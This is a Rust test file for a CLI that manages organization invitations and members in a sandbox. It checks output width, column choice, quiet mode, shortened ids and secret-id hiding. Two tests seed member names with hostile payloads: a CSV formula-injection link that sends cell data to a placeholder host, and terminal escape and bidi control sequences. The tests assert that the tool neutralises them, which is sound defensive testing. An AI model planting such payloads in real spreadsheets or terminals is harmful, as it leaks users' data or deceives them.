//! What is printed: fits, tells ages, can be chosen, and is inert.

use orgport_sandbox::Sandbox;
use serde_json::{Value, json};

use crate::support::{Desk, Run, sandbox};

/// Lets the vendor answer a request for an organization with changed members.
async fn members_named(sandbox: &Sandbox, desk: &Desk, names: &[&str]) {
    let organization = sandbox.identity("losant").expect("there").organization.expect("an organization");
    let path = format!("/orgs/{organization}");
    let mut body = desk.run(&["api", "GET", &path]).await.json();
    for (member, name) in body["members"].as_array_mut().expect("members").iter_mut().zip(names) {
        member["firstName"] = Value::from(*name);
        member["lastName"] = "".into();
    }
    let fault = json!({
        "vendor": "losant", "method": "GET", "route": path, "times": null,
        "fault": { "type": "status", "status": 200, "body": body },
    });
    sandbox.fault(serde_json::from_value(fault).expect("a fault")).expect("set");
}

fn lines(run: &Run) -> Vec<&str> {
    assert_eq!(run.code, Some(0), "{run:?}");
    run.stdout.lines().collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn lists_fit_eighty_columns() {
    let sandbox = sandbox().await;
    let long = format!("{}@organization-with-a-long-name.example", "somebody-with-a-long-name".repeat(2));
    for (vendor, role) in
        [("losant", "collaborator"), ("trieve", "member"), ("koyeb", "owner"), ("jaqpot", "member")]
    {
        let desk = Desk::at(&sandbox, vendor);
        let create = desk.run(&["invitation", "create", &long, "bea@example.org", "--role", role]).await;
        let runs = [
            create,
            desk.run(&["invitation", "list"]).await,
            desk.run(&["member", "list"]).await,
            desk.run(&["org", "list"]).await,
            desk.run(&["providers"]).await,
            desk.run(&["capabilities"]).await,
        ];
        for run in &runs {
            let too_long: Vec<_> = lines(run).into_iter().filter(|line| line.chars().count() > 80).collect();
            assert!(too_long.is_empty(), "{vendor}: {too_long:#?}");
        }
        assert!(!runs[1].stdout.contains(&long), "{runs:?}");
        let full = desk.run(&["invitation", "list", "--full"]).await;
        assert!(full.stdout.contains(&long), "{full:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn ages_stand_beside_times() {
    let sandbox = Sandbox::start().await.expect("it starts");
    let desk = Desk::at(&sandbox, "losant");
    desk.json(&["invitation", "create", "bea@x.io", "--role", "viewer"]).await;
    let list = desk.run(&["invitation", "list"]).await;
    let age = |pattern: &str| regex_lite::Regex::new(pattern).expect("a pattern");
    assert!(age(r"\d+ s ago\)? .*\d{4}-\d\d-\d\d \(in [67] d\)").is_match(&list.stdout), "{list:?}");
    let one = desk.run(&["invitation", "get", "bea@x.io"]).await;
    assert!(age(r"EXPIRES AT .*\dZ \(in [67] d\)").is_match(&one.stdout), "{one:?}");
    let csv = desk.run(&["invitation", "list", "--format", "csv"]).await;
    assert!(!csv.stdout.contains("ago"), "{csv:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn columns_and_header_can_be_chosen() {
    let sandbox = sandbox().await;
    let desk = Desk::at(&sandbox, "losant");
    let table = desk.run(&["member", "list", "--columns", "role,email"]).await;
    assert_eq!(lines(&table)[..2], ["ROLE    EMAIL", "admin   admin@losant.example"]);
    let csv = desk
        .run(&["member", "list", "--format", "csv", "--columns", "email,native_role", "--no-header"])
        .await;
    assert_eq!(lines(&csv)[0], "admin@losant.example,admin");
    assert!(!desk.run(&["member", "list", "--no-header"]).await.stdout.contains("EMAIL"));
    sandbox.clear_requests();
    let create = ["invitation", "create", "bea@x.io", "--role", "viewer", "--columns", "mail"];
    for arguments in [&["member", "list", "--columns", "mail"][..], &create] {
        let wrong = desk.run(arguments).await;
        assert_eq!(wrong.code, Some(2), "{wrong:?}");
        assert!(
            wrong.stderr.contains("\"mail\" is not a column of this list; the columns are "),
            "{wrong:?}"
        );
    }
    let json = desk.run(&["member", "list", "--format", "json", "--columns", "email"]).await;
    assert_eq!((json.code, &json.error()["kind"]), (Some(2), &"invalid_input".into()), "{json:?}");
    assert!(sandbox.requests().is_empty(), "refused before anything is sent");
}

#[tokio::test(flavor = "multi_thread")]
async fn quiet_leaves_results_and_errors() {
    let sandbox = sandbox().await;
    let desk = Desk::at(&sandbox, "losant");
    let create = desk.run(&["-q", "invitation", "create", "bea@x.io", "cem@x.io", "--role", "viewer"]).await;
    assert_eq!((lines(&create).len(), create.stderr.as_str()), (3, ""));
    let revoked = desk.run(&["--quiet", "invitation", "revoke", "bea@x.io"]).await;
    assert_eq!((revoked.code, revoked.stdout.as_str(), revoked.stderr.as_str()), (Some(0), "", ""));
    let again = desk.run(&["--quiet", "invitation", "revoke", "bea@x.io"]).await;
    assert_eq!(again.code, Some(3));
    assert!(again.stderr.starts_with("error: "), "{again:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_shortened_id_is_an_id() {
    let sandbox = sandbox().await;
    let desk = Desk::at(&sandbox, "losant");
    let id = |list: &Run| lines(list)[1].split_whitespace().last().expect("an id").to_owned();
    let member = id(&desk.run(&["member", "list"]).await);
    assert!(member.ends_with('…'), "{member}");
    assert_eq!(desk.json(&["member", "get", &member]).await["email"], "admin@losant.example");
    desk.json(&["invitation", "create", "bea@x.io", "--role", "viewer"]).await;
    let invitation = id(&desk.run(&["invitation", "list"]).await);
    desk.json(&["invitation", "revoke", &invitation.replace('…', "...")]).await;
    assert_eq!(desk.json(&["invitation", "list"]).await, json!([]));
    let organization = id(&desk.run(&["org", "list"]).await);
    assert_eq!(desk.json(&["org", "get", &organization]).await["name"], "Sandbox Organization");
    assert_eq!(
        desk.json(&["member", "list", "--org", &organization]).await.as_array().map(Vec::len),
        Some(3)
    );
    let nobody = desk.run(&["member", "get", "ffffffffffff…"]).await;
    assert_eq!(nobody.code, Some(3), "{nobody:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn names_that_are_formulas_are_text_in_csv() {
    let sandbox = sandbox().await;
    let desk = Desk::at(&sandbox, "losant");
    let names = ["=HYPERLINK(\"http://x.example/?\"&A1)", "@SUM(1)", "+1;=2"];
    members_named(&sandbox, &desk, &names).await;
    let cells = |run: &Run| -> Vec<String> {
        let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
        reader.records().map(|row| row.expect("CSV")[4].to_owned()).collect()
    };
    let guarded = desk.run(&["member", "list", "--format", "csv"]).await;
    assert_eq!(cells(&guarded), ["'=HYPERLINK(\"http://x.example/?\"&A1)", "'@SUM(1)", "'+1;'=2"]);
    assert_eq!(cells(&desk.run(&["member", "list", "--format", "csv", "--csv-raw"]).await), names);
    assert_eq!(desk.json(&["member", "list"]).await[0]["name"], names[0], "JSON is exact");
}

#[tokio::test(flavor = "multi_thread")]
async fn names_cannot_command_a_terminal_nor_fill_it() {
    let sandbox = sandbox().await;
    let desk = Desk::at(&sandbox, "losant");
    let long = "x".repeat(60_000);
    let names = ["Ada\u{1b}[31m\u{9b}31m\u{7f}", "Bea\u{202e}reversed\u{2028}\u{2066}", &long];
    members_named(&sandbox, &desk, &names).await;
    let is_obeyed = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}')
    };
    for arguments in [
        &["member", "list"][..],
        &["member", "list", "--full"],
        &["member", "get", "admin@losant.example"],
        &["member", "list", "--format", "csv"],
        &["member", "list", "--format", "json"],
        &["member", "list", "--format", "json", "--native"],
        &["member", "get", "nobody\u{1b}[31m@x.io"],
    ] {
        let run = desk.run(arguments).await;
        assert!(!run.stdout.contains(is_obeyed) && !run.stderr.contains(is_obeyed), "{arguments:?}: {run:?}");
    }
    assert!(desk.run(&["member", "list"]).await.stdout.len() < 1_000);
    assert!(desk.run(&["member", "list", "--full"]).await.stdout.len() < 5_000);
    let exact = desk.json(&["member", "list"]).await;
    assert_eq!((&exact[0]["name"], &exact[1]["name"]), (&json!(names[0]), &json!(names[1])));
}

/// Standard error is for programs, too.
#[tokio::test(flavor = "multi_thread")]
async fn under_json_everything_told_is_an_object() {
    let sandbox = sandbox().await;
    let desk = Desk::at(&sandbox, "losant");
    desk.write("people.csv", "name,email\nAda,ada@x.io\nBea,bea@x.io\n");
    for (arguments, notes) in [
        (&["invitation", "create", "--from", "people.csv", "--role", "viewer"][..], 2),
        (&["invitation", "list"], 0),
        (&["member", "get", "nobody@x.io"], 0),
        (&["org", "delete"], 0),
        (&["org", "grow"], 0),
        (&["demo"], 0),
    ] {
        for verbosity in [&[][..], &["-vvv"]] {
            let run = desk.run(&[&["--format", "json"], verbosity, arguments].concat()).await;
            assert!(run.objects().iter().all(Value::is_object), "{run:?}");
            assert_eq!(run.notes().len(), notes, "{run:?}");
            assert_eq!(run.code == Some(0), !run.stderr.contains("\"error\":{"), "{run:?}");
        }
    }
}

/// Whoever has the id of one of Trieve's invitations can join.
#[tokio::test(flavor = "multi_thread")]
async fn ids_that_are_secrets_are_shown_when_asked_for() {
    let sandbox = sandbox().await;
    let desk = Desk::at(&sandbox, "trieve");
    let create = ["invitation", "create", "bea@example.org", "--role", "member"];
    let made = desk.run(&create).await;
    let id =
        desk.json(&["invitation", "get", "bea@example.org"]).await["id"].as_str().expect("an id").to_owned();
    let beginning = &id[..8];
    assert!(!made.stdout.contains(beginning), "{made:?}");
    for arguments in [&["invitation", "list"][..], &["invitation", "get", "bea@example.org"], &create] {
        for format in ["table", "csv"] {
            let asked = [arguments, &["--full", "--format", format]].concat();
            let hidden = desk.run(&asked).await;
            assert!(!hidden.stdout.contains(beginning) && hidden.code == Some(0), "{hidden:?}");
            let shown = desk.run(&[&asked[..], &["--show-secret-ids"]].concat()).await;
            assert!(shown.stdout.contains(&id), "{shown:?}");
        }
        assert!(desk.json(arguments).await.to_string().contains(&id));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn ones_own_invitations_say_where_they_lead() {
    let sandbox = sandbox().await;
    for (vendor, role) in [("losant", "viewer"), ("koyeb", "owner")] {
        let desk = Desk::at(&sandbox, vendor);
        let home = desk.json(&["org", "get"]).await["name"].as_str().expect("a name").to_owned();
        desk.json(&["invitation", "create", "zoe@example.org", "--role", role]).await;
        let credential = sandbox.add_user(vendor, "zoe@example.org").expect("an account").credential;
        let key = ["token", "key"].into_iter().find(|key| credential[key].is_string()).expect("a credential");
        let variable = format!("ORGPORT__PROVIDERS__{}__AUTH__{}", vendor.to_uppercase(), key.to_uppercase());
        let zoe = Desk::at(&sandbox, vendor).set(&variable, credential[key].as_str().expect("text"));
        for format in ["table", "csv", "json"] {
            let mine = zoe.run(&["invitation", "mine", "--format", format]).await;
            assert!(mine.code == Some(0) && mine.stdout.contains(&home), "{vendor}: {mine:?}");
        }
        let table = zoe.run(&["invitation", "mine"]).await;
        assert!(lines(&table)[0].starts_with("ORGANIZATION NAME"), "{table:?}");
    }
}
